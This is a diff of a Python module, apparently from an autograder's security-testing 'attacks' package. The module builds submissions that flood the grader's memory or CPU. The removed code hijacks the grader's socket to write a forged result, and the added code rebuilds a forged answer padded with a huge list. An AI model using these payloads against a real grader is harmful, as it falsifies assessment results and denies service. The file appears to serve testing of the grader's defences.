@@ -1,7 +1,7 @@
 """Answers that fill the grader's memory or take its time; run as a program, what one costs.
 
-`python filling.py NAME` prints the MB and the CPU seconds that the grader takes for it, over a
-right submission to the same chapter.
+`python -m attacks.filling NAME` prints the MB and the CPU seconds that the grader takes for it,
+over a right submission to the same chapter.
 """
 
 import re
@@ -9,26 +9,19 @@ import sys
 import time
 from pathlib import Path
 
+from attacks.inside import written
+
 from autograde.grade import grade_now, parameters_of
 from autograde.submission import release_of
 from autograde.tools.samples import filled, solutions_of
 
-# What the function returns is written into the link, whatever the worker would have sent.
-_WRITES = """
-import gc, socket, struct
-import numpy as np
-LINK = [each for each in gc.get_objects() if type(each) is socket.socket][0]
-REST = '"error": null, "warnings": [], "changed": [], "shares": false'
-def NAME(*args):
-    body = ('{' + REST + ', "value": VALUE}').encode()
-    LINK.sendall(struct.pack(">I", len(body)) + body)
-"""
-_MANY = "' + 'ITEM,' * COUNT + '0"
+_ANSWER = "{'error': None, 'warnings': [], 'changed': [], 'shares': False, 'value': None}"
 
 
 def _written(item: str, count: int) -> str:
-    many = _MANY.replace("ITEM", item).replace("COUNT", str(count))
-    return _WRITES.replace("VALUE", '{"l": [' + many + "]}")
+    """Such an answer with a list of so many items, whatever the worker would have sent."""
+    many = f"b'{{\"l\":[' + b'{item},' * {count} + b'0]}}'"
+    return written(f"json.dumps({_ANSWER}).encode().replace(b'null}}', {many} + b'}}')")
 
 
 _RULE = """
